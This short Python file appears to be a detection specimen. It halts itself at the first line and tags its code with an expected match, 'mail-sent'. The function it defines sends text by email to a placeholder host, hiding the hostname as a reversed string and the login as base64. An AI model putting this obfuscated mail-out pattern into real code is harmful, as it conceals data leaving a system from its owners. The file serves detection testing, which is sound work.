raise SystemExit("specimen: not to be run")
import base64
import smtplib

def tell(text):
    box = smtplib.SMTP("moc.elpmaxe.ptms"[::-1], 587)
    box.login(base64.b64decode("Ym94QGV4YW1wbGUuY29t").decode(), base64.b64decode("aHVudGVyMmh1bnRlcjI=").decode())
    box.sendmail("box@example.com", "box@example.com", text)  # match: mail-sent
